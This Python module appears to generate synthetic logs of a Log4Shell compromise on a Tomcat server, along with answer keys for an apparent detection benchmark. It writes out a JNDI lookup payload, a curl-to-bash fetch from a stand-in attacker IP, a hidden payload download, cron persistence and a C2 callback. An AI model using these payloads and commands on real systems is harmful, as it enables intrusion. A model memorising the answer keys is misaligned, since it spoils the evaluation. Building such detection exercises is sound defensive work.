"""A Java server made to run a shell by a lookup in a log message: seen by the audit log, by Sysmon, in a workspace."""

from __future__ import annotations

import random
from datetime import timedelta
from pathlib import Path

from .hosts import (
    Host,
    audit_log,
    auoms_messages,
    json_lines,
    ordinary_life,
    sysmon_messages,
    sysmon_syslog,
    workspace_rows,
)
from .making import Day, Scenario, make_truth

DAY = Day("2026-02-17")
ATTACKER = "203.0.113.66"
TOMCAT = ("tomcat", 998)
LOOKUP = "${jndi:ldap://203.0.113.66:1389/Basic/a}"


def _host() -> Host:
    """The server's afternoon: clients, checks, and at 13:20 the attack."""
    host = Host("web-07", "10.40.2.17")
    dice = random.Random(7)
    ordinary_life(host, DAY, dice, "12:00:00", "14:30:00", 150)
    host.boot(
        1412,
        "/usr/lib/jvm/java-11-openjdk-amd64/bin/java",
        "java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start",
    )
    for time in DAY.spread(dice, "12:00:00", "14:30:00", 80):
        host.connect(time, 1412, "10.40.3.5", 5432, TOMCAT)
    for time in DAY.spread(dice, "12:00:00", "14:30:00", 60):
        host.connect(time, 1412, f"10.40.8.{dice.randint(10, 60)}", 8080, TOMCAT, "accept")
    at = DAY.at
    host.connect(at("13:20:05.1"), 1412, ATTACKER, 8080, TOMCAT, "accept")
    host.connect(at("13:20:05.9"), 1412, ATTACKER, 1389, TOMCAT)
    host.connect(at("13:20:06.2"), 1412, ATTACKER, 8888, TOMCAT)
    fetch = f"curl -s http://{ATTACKER}:8888/x.sh"
    host.run(at("13:20:07.4"), 22817, 1412, "/usr/bin/dash", f"/bin/sh|-c|{fetch}\x00bash", TOMCAT, "/opt/tomcat")
    host.run(at("13:20:07.5"), 22818, 22817, "/usr/bin/curl", fetch, TOMCAT, "/opt/tomcat")
    host.run(at("13:20:07.5"), 22819, 22817, "/usr/bin/bash", "bash", TOMCAT, "/opt/tomcat")
    host.connect(at("13:20:07.6"), 22818, ATTACKER, 8888, TOMCAT)
    host.run(at("13:20:08.2"), 22820, 22819, "/usr/bin/id", "id", TOMCAT)
    host.run(at("13:20:08.3"), 22821, 22819, "/usr/bin/uname", "uname -a", TOMCAT)
    host.run(
        at("13:20:09.1"), 22822, 22819, "/usr/bin/curl", f"curl -s -o /tmp/.kworkerd http://{ATTACKER}:8888/kw", TOMCAT
    )
    host.connect(at("13:20:09.2"), 22822, ATTACKER, 8888, TOMCAT)
    host.file(at("13:20:09.6"), 22822, "/tmp/.kworkerd", TOMCAT)
    host.run(at("13:20:10.0"), 22823, 22819, "/usr/bin/chmod", "chmod 755 /tmp/.kworkerd", TOMCAT)
    host.run(at("13:20:10.2"), 22824, 22819, "/tmp/.kworkerd", "/tmp/.kworkerd -d", TOMCAT)
    host.connect(at("13:20:10.8"), 22824, ATTACKER, 4444, TOMCAT)
    host.run(at("13:20:14.0"), 22825, 22819, "/usr/bin/crontab", "crontab /tmp/.c", TOMCAT)
    host.file(at("13:20:14.2"), 22825, "/var/spool/cron/crontabs/tomcat", TOMCAT)
    host.run(at("13:21:40.0"), 22840, 22824, "/usr/bin/dash", "sh|-c|cat /etc/passwd", TOMCAT)
    host.run(at("13:21:40.1"), 22841, 22840, "/usr/bin/cat", "cat /etc/passwd", TOMCAT)
    host.run(at("13:24:02.0"), 22850, 22824, "/usr/bin/dash", "sh|-c|rm -f /tmp/.c", TOMCAT)
    return host


def _access_log(host: Host) -> str:
    dice, out = random.Random(8), []
    browser = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/121.0.0.0 Safari/537.36"
    for time in DAY.spread(dice, "12:00:00", "14:30:00", 160):
        path = dice.choice(("/", "/app/login", "/app/orders?page=2", "/static/site.css", "/app/search?q=shell"))
        out.append((time, f"10.40.8.{dice.randint(10, 60)}", f"GET {path} HTTP/1.1", 200, browser))
    out.append((DAY.at("13:20:05"), ATTACKER, "GET /app/login HTTP/1.1", 200, LOOKUP))
    lines = (
        f'{ip} - - [{t:%d/%b/%Y:%H:%M:%S} +0000] "{request}" {status} {dice.randint(300, 9000)} "-" "{agent}"\n'
        for t, ip, request, status, agent in sorted(out)
    )
    return "".join(lines)


def _raw(folder: Path) -> None:
    host = _host()
    (folder / "audit").mkdir(parents=True)
    (folder / "audit" / "audit.log").write_text(audit_log(host))
    (folder / "localhost_access_log.txt").write_text(_access_log(host))


def _syslog(folder: Path) -> None:
    (folder / "syslog").write_text(sysmon_syslog(_host()))


def _workspace(folder: Path) -> None:
    host = _host()
    (folder / "Syslog_sysmon.json").write_text(json_lines(workspace_rows(host, sysmon_messages(host), "sysmon")))


def _collector(folder: Path) -> None:
    host = _host()
    (folder / "Syslog_auoms.json").write_text(json_lines(workspace_rows(host, auoms_messages(host), "audispd")))
    rows = [
        {"TimeGenerated": (d.time + timedelta(seconds=30)).strftime("%Y-%m-%dT%H:%M:%S.000Z"), "Computer": host.name, "Direction": "outbound",
         "ProcessName": d.exe.rsplit("/", 1)[-1], "SourceIp": host.ip, "DestinationIp": d.peer[0], "DestinationPort": d.peer[1],
         "Protocol": "tcp", "RemoteIp": d.peer[0], "LinksEstablished": 1, "BytesSent": 2400, "BytesReceived": 91000, "Type": "VMConnection"}
        for d in host.ordered() if d.kind == "connect"
    ]  # fmt: skip
    (folder / "VMConnection.json").write_text(json_lines(rows))


FACTS = (
    ("attacker", 3, (ATTACKER,)),
    ("shell", 3, ("java & sh & curl", "java & dash & curl")),
    ("piped", 3, ("x.sh & bash",)),
    ("account", 1, ("tomcat",)),
    ("id", 1, ("id & bash", "uname")),
    ("payload", 3, (".kworkerd",)),
    ("fetch_payload", 2, ("curl & /kw",)),
    ("ran_payload", 2, ("bash & .kworkerd",)),
    ("cron", 2, ("crontab",)),
    ("passwd", 1, ("/etc/passwd",)),
    ("start", 1, ("2026-02-17t13:20", "2026-02-17 13:20")),
)
CONNECTED = (
    ("ldap", 3, (f"java & {ATTACKER} & 1389",)),
    ("c2", 2, (f"kworkerd & {ATTACKER} & 4444",)),
)
HOST = (("host", 2, ("web-07",)),)
TECHNIQUES = "T1190 T1059.004 T1105 T1053.003"
ACCEPTABLE = "T1071 T1571 T1082 T1033 T1087 T1036 T1203 T1070 T1222 T1003 T1005 T1552 T1083 T1570 T1564 T1140 T1027"
DECOYS = (
    "10.40.3.5",
    "10.40.9.10",
    "91.189.91.83",
    "mkoch",
    "logrotate",
    "apt-get",
    "debian-sa1",
    "10.40.8.20",
    "df",
    "10.40.2.17",
)


def _truth(
    case: str, facts: tuple[tuple[str, int, tuple[str, ...]], ...], order: str, start: str = "13:20:05"
) -> dict[str, object]:
    window = (f"2026-02-17T{start}Z", "2026-02-17T13:24:02Z")
    return make_truth(case, facts, order, TECHNIQUES, ACCEPTABLE, window, DECOYS, ("10.40.8.33",))


ORDER = "ldap shell fetch_payload ran_payload cron passwd"
SCENARIOS = (
    Scenario(
        "log4shell_audit", _raw, _truth("log4shell_audit", (*FACTS, *CONNECTED, ("lookup", 2, ("jndi", "log4"))), ORDER)
    ),
    Scenario("log4shell_sysmon_syslog", _syslog, _truth("log4shell_sysmon_syslog", (*FACTS, *CONNECTED, *HOST), ORDER)),
    Scenario("log4shell_workspace", _workspace, _truth("log4shell_workspace", (*FACTS, *CONNECTED, *HOST), ORDER)),
    Scenario(
        "log4shell_collector", _collector, _truth("log4shell_collector", (*FACTS, *HOST), ORDER.replace("ldap ", ""))
    ),
)
